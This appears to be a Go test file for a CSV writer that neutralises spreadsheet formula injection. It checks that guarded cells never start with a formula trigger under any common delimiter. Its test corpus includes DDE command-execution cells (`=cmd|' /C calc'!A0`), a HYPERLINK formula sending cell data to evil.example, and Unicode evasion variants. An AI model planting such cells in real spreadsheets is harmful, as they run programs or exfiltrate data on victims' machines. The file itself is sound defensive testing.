package sheet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/require"

	"converse/internal/sheet"
)

// corpus are cells that people have attacked spreadsheets with, and some that only
// look like it.
var corpus = []string{
	`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `+1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\r=1+1", "\n=1+1", "\tabc", "\rabc", " =1+1", "\uFEFF=1+1", "\u200B=1+1", "\u00A0=1+1", "＝1+1", "＋1", "－1", "＠x",
	`";=1+1;"`, `a;=1+1`, "a\t=1+1", "a,=1+1", "a|=1+1", "a\n=1+1", "a\r\n=1+1", "a; @x", `'=1+1`, `''=1+1`, `a;'=1`,
	"+12025550123", "-5", "@home", "'tis", "O'Brien", "a=b", "1-2", "a, b", `say "hi"`, "", "'", ";", ",,=", "；=1",
}

func TestNoSpreadsheetCalculatesACell(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	w := sheet.NewWriter(&out, false)
	for _, cell := range corpus {
		require.NoError(t, w.Write([]string{cell, "x", cell}))
		require.Equal(t, cell, sheet.Unguard(sheet.Guard(cell)), "%q", cell)
	}
	require.NoError(t, w.Flush())
	harmless(t, out.String())
}

// harmless opens a file with each delimiter that a spreadsheet may be set to.
func harmless(t *testing.T, text string) {
	t.Helper()
	for _, delimiter := range []rune{',', ';', '\t', '|'} {
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\uFEFF")))
		r.Comma, r.LazyQuotes, r.FieldsPerRecord = delimiter, true, -1
		rows, err := r.ReadAll()
		require.NoError(t, err)
		for _, row := range rows {
			for _, cell := range row {
				calm(t, cell)
			}
		}
		// And a program that knows nothing of quotation marks.
		for _, cell := range strings.FieldsFunc(text, func(r rune) bool { return r == delimiter || r == '\n' || r == '\r' }) {
			calm(t, strings.Trim(cell, `"`))
		}
	}
}

func calm(t *testing.T, cell string) {
	t.Helper()
	begins := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
	if begins != "" {
		require.NotContains(t, "=+-@＝＋－＠", string([]rune(begins)[:1]), "%q", cell)
	}
}

func TestACellThatIsHarmlessStaysAsItIs(t *testing.T) {
	t.Parallel()
	for _, cell := range []string{"", "Asha", "O'Brien", "'tis", "a=b", "1-2", "a, b", "asha@example.com", "5 + 5", "x;y", "'"} {
		require.Equal(t, cell, sheet.Guard(cell))
		require.Equal(t, cell, sheet.Unguard(cell))
	}
	require.Equal(t, "'+12025550123", sheet.Guard("+12025550123"))
	require.Equal(t, "'\tabc", sheet.Guard("\tabc"))
}

func TestWhatWasWrittenIsReadAgain(t *testing.T) {
	t.Parallel()
	for _, mark := range []bool{false, true} {
		var out bytes.Buffer
		w := sheet.NewWriter(&out, mark)
		require.NoError(t, w.Write([]string{"Phone", "Name", "Sum"}))
		require.NoError(t, w.Write([]string{"+12025550123", `Zoë "Z", Rao; B`, "-5"}))
		require.NoError(t, w.Flush())
		require.Equal(t, mark, strings.HasPrefix(out.String(), "\uFEFF"))
		f, err := sheet.Read(out.Bytes(), sheet.Options{})
		require.NoError(t, err)
		require.Equal(t, []string{"Phone", "Name", "Sum"}, f.Headers)
		require.Equal(t, []string{"+12025550123", `Zoë "Z", Rao; B`, "-5"}, f.Rows[0].Cells)
	}
}
